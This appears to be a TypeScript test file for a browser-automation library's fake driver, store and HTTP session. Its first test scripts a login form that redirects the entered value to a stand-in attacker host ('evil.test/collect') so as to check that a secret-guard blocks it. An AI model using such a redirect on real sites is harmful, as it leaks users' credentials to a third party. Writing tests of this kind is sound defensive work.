import { assert, describe, it } from "@effect/vitest"
import { BrowserDriver, DriverError, ElementNotFound, HttpSession, RateLimited, Store } from "@sextant/core"
import { Effect } from "effect"
import { FakeHttpSession, MemoryStore, makeFakeBrowserDriver } from "../../src/index.ts"

const site = {
  "/": `<html><head><title>Home</title></head><body><h1>Home</h1><a id="next" href="/login">Sign in</a></body></html>`,
  "/login": `<form method="post" action="/session"><input name="email" id="email"><button type="submit">Go</button></form>`,
}

describe("makeFakeBrowserDriver", () => {
  it.effect("blocks, while guardSecrets holds, a request that carries a secret to another origin", () =>
    Effect.gen(function* () {
      const fake = makeFakeBrowserDriver({
        site: (request) =>
          request.url.endsWith("/session")
            ? { redirect: `http://evil.test/collect?p=${encodeURIComponent(request.form.email ?? "")}` }
            : request.url.startsWith("http://evil.test")
              ? { html: "<h1>Thanks</h1>" }
              : { html: site[new URL(request.url).pathname as keyof typeof site] ?? "" },
      })
      const driver = fake.driver
      const blocked = yield* Effect.scoped(
        Effect.gen(function* () {
          const guard = yield* driver.guardSecrets?.({
            values: ["Open Sesame"],
            origins: ["http://fake.test"],
          }) ?? Effect.die("the fake has no guardSecrets")
          yield* driver.navigate("http://fake.test/login")
          yield* driver.act({ selector: "#email" }, "input", "Open Sesame")
          const sent = yield* Effect.exit(driver.act({ selector: "button" }, "click"))
          assert.strictEqual(sent._tag, "Failure")
          return yield* guard.blocked
        }),
      )
      assert.deepStrictEqual(blocked, [
        {
          origin: "http://evil.test",
          method: "GET",
          carriedIn: "url",
          resourceType: "Document",
          redirectedFrom: "http://fake.test",
          secret: 0,
        },
      ])
      assert.isFalse(fake.requests.some((request) => request.url.startsWith("http://evil.test")))
      // Released with its scope: the same request now goes out.
      yield* driver.navigate("http://evil.test/collect?p=Open%20Sesame")
      assert.isTrue(fake.requests.some((request) => request.url.startsWith("http://evil.test")))
    }),
  )

  it.effect("follows links, fills fields and posts forms to the scripted site", () =>
    Effect.gen(function* () {
      const fake = makeFakeBrowserDriver({
        site: (request) =>
          request.url.endsWith("/session")
            ? { html: `<h1>Welcome ${request.form.email}</h1>` }
            : { html: site[new URL(request.url).pathname as keyof typeof site] ?? "" },
      })
      const driver = fake.driver
      yield* driver.navigate("http://fake.test/")
      const home = yield* driver.look()
      const link = Object.values(home.elements).find((element) => element.role === "link")
      assert.strictEqual(link?.name, "Sign in")
      yield* driver.act({ ref: link?.ref ?? "" }, "click")
      assert.strictEqual(fake.url(), "http://fake.test/login")
      yield* driver.act({ selector: "#email" }, "input", "ada@example.com")
      const result = yield* driver.act({ selector: "button" }, "click")
      assert.deepStrictEqual(result.signals, ["FormSubmitted", "NavigationOccurred"])
      assert.strictEqual(fake.requests.at(-1)?.form.email, "ada@example.com")
      const heading = yield* driver.evaluate("return document.querySelector('h1').textContent")
      assert.strictEqual(heading, "Welcome ada@example.com")
    }),
  )

  it.effect("fails scripted calls with the reason the fault hook returns", () =>
    Effect.gen(function* () {
      const fake = makeFakeBrowserDriver({
        site,
        fault: (call, count) =>
          call.method === "act" && count === 1
            ? new ElementNotFound({ target: call.target ?? "" })
            : undefined,
      })
      yield* fake.driver.navigate("http://fake.test/")
      // #next is on the page: only the fault hook can make the first click fail.
      const first = yield* Effect.flip(fake.driver.act({ selector: "#next" }, "click"))
      assert.strictEqual(first.reason._tag, "ElementNotFound")
      const second = yield* fake.driver.act({ selector: "#next" }, "click")
      assert.isTrue(second.changed)
      const missing = yield* Effect.flip(fake.driver.act({ selector: "#absent" }, "click"))
      assert.instanceOf(missing, DriverError)
      assert.strictEqual(missing.reason._tag, "ElementNotFound")
    }),
  )

  it.effect("serves as the BrowserDriver service", () =>
    Effect.gen(function* () {
      const fake = makeFakeBrowserDriver({ site })
      const title = yield* BrowserDriver.use((driver) => driver.navigate("http://fake.test/")).pipe(
        Effect.provideService(BrowserDriver, fake.driver),
      )
      assert.strictEqual(title.title, "Home")
    }),
  )
})

describe("MemoryStore.layerTest", () => {
  it.effect("deduplicates records by key and replaces steps by index", () =>
    Effect.gen(function* () {
      const store = yield* Store
      const added = yield* store.appendRecords("run", [
        { key: "a", source: "x", data: 1 },
        { key: "a", source: "x", data: 2 },
        { key: "b", source: "x", data: 3 },
      ])
      assert.strictEqual(added, 2)
      yield* store.saveStep("run", {
        index: 0,
        tool: "t",
        args: {},
        successCriteria: [],
        state: "running",
        attempts: 1,
      })
      yield* store.saveStep("run", {
        index: 0,
        tool: "t",
        args: {},
        successCriteria: [],
        state: "succeeded",
        attempts: 1,
      })
      const steps = yield* store.listSteps("run")
      assert.deepStrictEqual(
        steps.map((step) => step.state),
        ["succeeded"],
      )
      const missing = yield* Effect.flip(store.getRun("nope"))
      assert.strictEqual(missing.reason._tag, "StoreNotFound")
    }).pipe(Effect.provide(MemoryStore.layerTest)),
  )
})

describe("FakeHttpSession.layerTest", () => {
  it.effect("scripts a rate limit on the first attempt and a body on the next", () =>
    Effect.gen(function* () {
      const http = yield* HttpSession
      const first = yield* Effect.flip(http.fetch({ url: "http://fake.test/a" }))
      assert.strictEqual(first.reason._tag, "RateLimited")
      const second = yield* http.fetch({ url: "http://fake.test/a" })
      assert.strictEqual(second.body, "ok")
    }).pipe(
      Effect.provide(
        FakeHttpSession.layerTest({
          reply: (request, count) =>
            count === 1 ? { fail: new RateLimited({ url: request.url, retryAfterMs: 500 }) } : { body: "ok" },
        }),
      ),
    ),
  )
})
